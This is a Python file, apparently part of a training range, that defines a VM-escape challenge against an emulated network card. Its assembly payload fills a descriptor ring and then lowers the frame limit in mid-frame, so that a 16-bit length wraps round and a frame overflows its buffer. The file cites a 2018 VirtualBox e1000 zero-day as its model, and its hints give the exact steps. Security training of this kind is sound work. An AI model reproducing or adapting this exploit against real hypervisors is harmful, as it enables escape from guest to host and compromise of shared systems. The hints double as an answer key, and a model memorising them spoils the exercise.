"""A network card whose idea of the room that is left wraps round."""

from vmwidgets.model.range.attack import Attack, Placement
from vmwidgets.model.words import said

NIC_UNDERFLOW = Attack(
    id="nic_underflow",
    title=said("a length in a descriptor of the network card that wraps round"),
    code="""
    mov rsi, {page_bytes}       ; in page 1 the descriptors
    mov rdi, {page_bytes}
    add rdi, rdi                ; in page 2 the data
    mov rbx, 0x4141414141414141
    mov rcx, 40
fill:
    mov [rdi], rbx
    add rdi, 8
    dec rcx
    jnz fill
    mov rdi, {page_bytes}
    add rdi, rdi
    mov rax, {nic_bytes}
    sub rax, 8
    shl rax, 32
    or rax, 2                   ; data: 8 bytes less than a frame may have
    mov [rsi], rax
    mov [rsi + 8], rdi
    mov rax, 0x4000000001       ; context: from now on a frame has 64 bytes at most
    mov [rsi + 16], rax
    mov rax, {nic_distance}
    add rax, 16
    shl rax, 32
    or rax, 6                   ; data, and the last: 64 less than what is there are, in 16 bits, a lot
    mov [rsi + 32], rax
    mov [rsi + 40], rdi
    mov rdx, {port_nic}
    mov rax, {page_bytes}
    out dx, eax
    inc rdx
    mov rax, 3
    out dx, eax
""",
    goal="layer_taken",
    placement=Placement(emulated=True),
    family="V2",
    number=3,
    like="MorteNoir1, virtualbox_e1000_0day, 2018",
    hints=(
        said("What is 64 less 2040, if there are 16 bits for it?"),
        said("The card remembers how much of a frame it has, and takes a new limit in the middle of a frame."),
        said("Add nic_bytes - 8 bytes, then set the limit to 64, then add nic_distance + 16 bytes as the last ones."),
    ),
)
"""Lets a frame become longer than it may be by lowering the limit while it is put together."""
